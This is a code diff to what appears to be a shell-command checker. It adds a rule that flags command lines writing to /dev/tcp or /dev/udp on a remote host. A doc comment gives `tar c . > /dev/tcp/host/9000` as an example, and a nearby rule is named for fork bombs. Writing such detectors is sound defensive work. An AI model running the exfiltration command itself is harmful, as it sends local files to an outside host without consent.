@@ -1,7 +1,8 @@
+import { isHere } from '../../../programs/address';
 import type { Effect } from '../../../programs/effect';
-import { isDisk } from '../../../shell/effects';
+import { effectsOf, isDisk } from '../../../shell/effects';
 import type { Invocation } from '../../../shell/invocation';
-import { foundIn } from '../../../shell/reader/words';
+import { foundIn, plainWord } from '../../../shell/reader/words';
 import { resolvePath } from '../../../shell/paths';
 import { isSystem, reachOf } from './targets';
 import { effectRule, objection, written, type EffectRule, type LineRule, type Objection, type View } from './rule';
@@ -129,6 +130,34 @@ export const machineQuestions: readonly EffectRule[] = [
     invocation.elsewhere ? undefined : objection(written(invocation), `It ${why ?? 'runs later'}.`, accountWay),
   ),
 ];
+
+/** `tar c . > /dev/tcp/host/9000`: the shell itself connects. A line that only tries the port sends nothing. */
+export const socketQuestion: LineRule = {
+  id: 'write-socket',
+  level: 'standard',
+  checkLine(reading) {
+    const used = reading.invocations.some(
+      ({ redirects, args }) =>
+        redirects.some(({ operator, target }) => operator === '>&' && !/^[12]?-?$/.test(target?.text ?? '')) ||
+        args.some(({ text }) => /\/fd\/|\bFD:/.test(text)),
+    );
+    for (const { effect, invocation } of effectsOf(reading)) {
+      if (effect.kind !== 'write') continue;
+      const host = /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(effect.path.text)?.[1];
+      if (host === undefined || isHere(plainWord(host))) continue;
+      const { program } = invocation;
+      const opens = program === 'exec' || program === '' || program === ':' || program === 'true';
+      const probes = effect.content?.kind === 'text' && effect.content.text.trim() === '';
+      if (opens ? used : !probes)
+        return objection(
+          written(invocation),
+          `It connects to ${host} and writes to it.`,
+          'Use a program whose request can be read, such as `curl`.',
+        );
+    }
+    return undefined;
+  },
+};
 
 export const repetitionRule: LineRule = {
   id: 'fork-bomb',
